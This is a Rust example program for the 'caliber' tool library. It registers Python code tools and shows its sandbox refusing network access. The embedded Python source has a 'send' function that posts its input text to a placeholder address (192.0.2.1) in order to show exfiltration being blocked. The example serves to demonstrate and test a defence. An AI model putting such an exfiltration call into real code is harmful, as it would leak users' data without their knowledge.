//! A code tool from its registration to a refusal: a Python callable, resolved by a constraint, run in the sandbox, and
//! kept from the network by the kernel.
//!
//! ```sh
//! cargo run --example code_tool
//! ```
//!
//! It needs Linux with namespaces and a Python 3 at `/usr/bin/python3`; where the sandbox cannot hold what it promises,
//! it says what is missing, and nothing runs.

#![allow(clippy::print_stdout, reason = "an example talks to its reader")]

use std::error::Error;
use std::time::Duration;

use caliber::core::code_tool::CodeToolDefinition;
use caliber::core::json::{JsonLimits, JsonText};
use caliber::core::principal::{Principal, Scope, Scopes, Surface};
use caliber::core::sandbox::RunStatus;
use caliber::core::server::Visibility;
use caliber::{Caliber, CodeToolCall, CodeToolRegistration, Config, SandboxChoice};

const SOURCE: &str = r#"
import urllib.parse
import urllib.request

def count(text: str) -> dict:
    """Counts the words of a text."""
    return {"words": len(text.split())}

def send(text: str) -> str:
    """Tries to send a text elsewhere."""
    return urllib.request.urlopen("http://192.0.2.1/?" + urllib.parse.quote(text), timeout=2).read()
"#;

#[tokio::main]
async fn main() -> Result<(), Box<dyn Error>> {
    let folder = std::env::temp_dir().join(format!("caliber-code-tool-{}", std::process::id()));
    std::fs::create_dir_all(folder.join("source"))?;
    std::fs::write(folder.join("source/words.py"), SOURCE)?;
    let told = tell(&folder).await;
    std::fs::remove_dir_all(&folder)?;
    told
}

async fn tell(folder: &std::path::Path) -> Result<(), Box<dyn Error>> {
    let mut config = Config::at(folder.join("caliber.db"));
    config.sandbox = SandboxChoice::local(folder.join("snapshots"));
    let caliber = caliber::open(config).await?;
    let ada = Principal::host(
        "ada".parse()?,
        "default".parse()?,
        Scopes::NONE.with(Scope::Admin),
    );

    let report = caliber.sandbox_report(&ada)?.ok_or("there is no sandbox")?;
    if !report.is_available() {
        println!(
            "no code tool runs on this machine: {:?} {:?}",
            report.missing(),
            report.problem
        );
        println!("`caliber sandbox doctor` says what to do about it");
        return Ok(());
    }

    println!(
        "1. register two versions of `words` and one of `leak`; their source is copied, and imported once in the sandbox"
    );
    for (name, version, callable) in [
        ("words", "1.0.0", "count"),
        ("words", "1.1.0", "count"),
        ("leak", "1.0.0", "send"),
    ] {
        let definition: CodeToolDefinition = serde_json::from_value(serde_json::json!({
            "name": name, "version": version, "side_effect_level": "read", "requires_approval": false,
            "program": {
                "runtime": "python", "module_path": "words", "callable_name": callable,
                "source_roots": [folder.join("source")],
            },
            "input_schema": { "type": "object", "required": ["text"], "properties": { "text": { "type": "string" } } },
        }))?;
        let registration = CodeToolRegistration {
            definition,
            visibility: Visibility::Project,
        };
        let record = caliber
            .register_code_tool((&ada, Surface::Library), registration)
            .await?;
        println!("   {name} {version}: content {}", record.content_hash);
    }

    println!("2. resolve `words` by ^1.0 and run it");
    let resolved = caliber
        .resolve_code_tool(&ada, &"tool.words.v1".parse()?, &"^1.0".parse()?)
        .await?;
    println!("   it stands for {}", resolved.tool.version);
    run(
        &caliber,
        &ada,
        CodeToolCall::new(resolved.tool.id, text("one two three")?, Surface::Workflow),
    )
    .await?;

    println!("3. run `leak`, which wants to send its text elsewhere");
    let leak = caliber
        .resolve_code_tool(&ada, &"leak".parse()?, &"".parse()?)
        .await?;
    run(
        &caliber,
        &ada,
        CodeToolCall::new(leak.tool.id, text("a secret")?, Surface::Workflow),
    )
    .await?;

    caliber.close(Duration::from_secs(5)).await?;
    Ok(())
}

fn text(text: &str) -> Result<JsonText, Box<dyn Error>> {
    let arguments = serde_json::json!({ "text": text }).to_string();
    Ok(JsonText::parse(&arguments, JsonLimits::ARGUMENTS)?)
}

async fn run(caliber: &Caliber, who: &Principal, call: CodeToolCall) -> Result<(), Box<dyn Error>> {
    let ended = caliber.run_code_tool(who, call).await?;
    match &ended.run.status {
        RunStatus::Ok { value } => println!("   it returned {}", value.as_str()),
        RunStatus::ToolError { error_type, message } => println!("   it raised {error_type}: {message}"),
        other => println!("   it ended otherwise: {other:?}"),
    }
    println!(
        "   {:?}, {:?} in {:?}",
        ended.outcome, ended.run.mode, ended.duration
    );
    Ok(())
}
